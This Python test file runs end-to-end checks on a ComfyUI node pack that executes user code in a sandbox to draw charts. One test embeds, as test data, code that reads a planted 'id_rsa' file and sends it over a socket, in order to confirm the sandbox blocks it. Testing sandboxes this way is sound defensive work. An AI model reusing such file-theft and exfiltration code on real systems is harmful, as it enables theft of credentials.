"""End to end through a live ComfyUI server with the pack mounted."""

from __future__ import annotations

import copy
import io
import json
import re
from pathlib import Path

import pytest
from PIL import Image

from harness import cached_nodes, execution_error, images_of
from workflow_convert import convert

REPO = Path(__file__).resolve().parents[1]
CHART_API = json.loads((REPO / "tests" / "workflows" / "chart_from_code.api.json").read_text())


def _pack_node_ids():
    from comfyui_coco import nodes as pack_nodes

    return {n.GET_SCHEMA().node_id for n in pack_nodes.collect_nodes()}


def test_object_info_lists_every_coco_node_with_tooltips(object_info):
    expected = _pack_node_ids()
    listed = {k for k in object_info if k.startswith("CoCo_")}
    assert expected <= listed, f"missing from /object_info: {expected - listed}"
    for node_id in sorted(listed):
        info = object_info[node_id]
        assert info["category"].startswith("CoCo/"), node_id
        assert info["description"].strip(), f"{node_id} has no description"
        for section in ("required", "optional"):
            for name, spec in info["input"].get(section, {}).items():
                opts = spec[1] if len(spec) > 1 else {}
                assert opts.get("tooltip", "").strip(), f"{node_id}.{name} has no tooltip"


def test_chart_workflow_runs_and_second_run_is_cached(comfy_server):
    entry = comfy_server.run(copy.deepcopy(CHART_API))
    assert execution_error(entry) is None, execution_error(entry)
    saved = [i for i in images_of(entry) if i["type"] == "output"]
    assert len(saved) == 1
    img = Image.open(io.BytesIO(comfy_server.view(saved[0])))
    assert img.format == "PNG" and img.size == (800, 500)  # figsize (8, 5) at dpi 100
    assert len(img.convert("RGB").getcolors(maxcolors=1 << 20)) > 16, "the chart is blank"

    again = comfy_server.run(copy.deepcopy(CHART_API))
    assert execution_error(again) is None
    assert set(cached_nodes(again)) == set(CHART_API), "an identical second run must be fully cached"


def test_bad_prompt_is_refused_with_node_error_and_fix(comfy_server):
    prompt = copy.deepcopy(CHART_API)
    prompt["2"]["inputs"]["code"] = "   "
    status, body = comfy_server.queue(prompt)
    assert status == 400
    errors = body["node_errors"]["2"]
    assert errors["class_type"] == "CoCo_SandboxRender"
    text = json.dumps(errors["errors"])
    assert "CoCo_SandboxRender" in text and "Fix:" in text and "CoCo_CodeEditor" in text


def test_failing_code_reports_line_and_server_keeps_serving(comfy_server):
    prompt = copy.deepcopy(CHART_API)
    prompt["1"]["inputs"]["code"] = "x = 1\ny = 2\nplt.plot([1, 2], [3, undefined_name])\n"
    entry = comfy_server.run(prompt)
    err = execution_error(entry)
    assert err is not None and err["node_type"] == "CoCo_SandboxRender"
    assert "line 3" in err["exception_message"] and "undefined_name" in err["exception_message"]
    assert "Fix:" in err["exception_message"]
    ok = comfy_server.run(copy.deepcopy(CHART_API))
    assert execution_error(ok) is None


def test_syntax_error_message_says_it_once(comfy_server):
    """The error dialog shows the SyntaxError once (it used to repeat it from the traceback), with
    the line and the offending code."""
    prompt = copy.deepcopy(CHART_API)
    prompt["1"]["inputs"]["code"] = 'fig, ax = plt.subplots()\nax.set_title("oops"\nfig.tight_layout()\n'
    err = execution_error(comfy_server.run(prompt))
    assert err is not None and err["node_type"] == "CoCo_SandboxRender", err
    msg = err["exception_message"].split("\nFix:")[0]
    assert msg.count("was never closed") == 1, msg
    assert "(line 2)" in msg and 'ax.set_title("oops"' in msg, msg


def twin_slug(title: str) -> str:
    """tests/workflows/<slug>.api.json of example_workflows/<title>.json."""
    return re.sub(r"[^a-z0-9]+", "_", title.lower()).strip("_")


@pytest.mark.parametrize("workflow", sorted((REPO / "example_workflows").glob("*.json")), ids=lambda p: p.stem)
def test_ui_workflow_matches_its_api_twin(workflow, object_info):
    twin = REPO / "tests" / "workflows" / f"{twin_slug(workflow.stem)}.api.json"
    assert twin.exists(), f"{workflow.name} needs its API-format twin at {twin.relative_to(REPO)}"
    converted = convert(json.loads(workflow.read_text()), object_info)
    expected = json.loads(twin.read_text())
    strip = lambda p: {k: {"class_type": v["class_type"], "inputs": v["inputs"]} for k, v in p.items()}  # noqa: E731
    assert strip(converted) == strip(expected)


def test_malicious_workflow_fails_clearly_and_server_keeps_serving(comfy_server, tmp_path):
    """A shared workflow whose code tries to steal a file and phone home: the node fails with a
    message that says what was refused, nothing leaks, and the next prompt renders."""
    secret = tmp_path / "id_rsa"
    secret.write_text("COCO-SECRET-MARKER-7d1f")
    secret.chmod(0o644)
    code = (
        f"data = open({str(secret)!r}).read()\n"
        "import socket\n"
        "socket.create_connection(('127.0.0.1', 9), timeout=1).sendall(data.encode())\n"
        "plt.title(data)\n"
    )
    prompt = copy.deepcopy(CHART_API)
    prompt["1"]["inputs"]["code"] = code
    entry = comfy_server.run(prompt)
    err = execution_error(entry)
    assert err is not None and err["node_type"] == "CoCo_SandboxRender"
    msg = err["exception_message"]
    # Refused by the kernel layers, or (since file opens are confined to the job's scratch folder)
    # not found there: either way the file is out of reach.
    assert "line 1" in msg and any(w in msg for w in ("Permission", "Forbidden", "not permitted", "No such file")), msg
    assert "Fix:" in msg
    assert "COCO-SECRET-MARKER" not in json.dumps(entry)
    assert comfy_server.alive()
    ok = comfy_server.run(copy.deepcopy(CHART_API))
    assert execution_error(ok) is None


def test_cancel_stops_a_long_render_and_server_serves_the_next(comfy_server):
    import threading

    prompt = copy.deepcopy(CHART_API)
    prompt["1"]["inputs"]["code"] = "while True:\n    pass\n"
    prompt["2"]["inputs"]["timeout_s"] = 120.0
    status, data = comfy_server.queue(prompt)
    assert status == 200, data
    threading.Timer(2.0, comfy_server.interrupt).start()
    # well before timeout_s (120 s) would end it
    entry = comfy_server.wait(data["prompt_id"], timeout=60)
    kinds = [k for k, _ in entry["status"]["messages"]]
    assert "execution_interrupted" in kinds, kinds
    ok = comfy_server.run(copy.deepcopy(CHART_API))
    assert execution_error(ok) is None
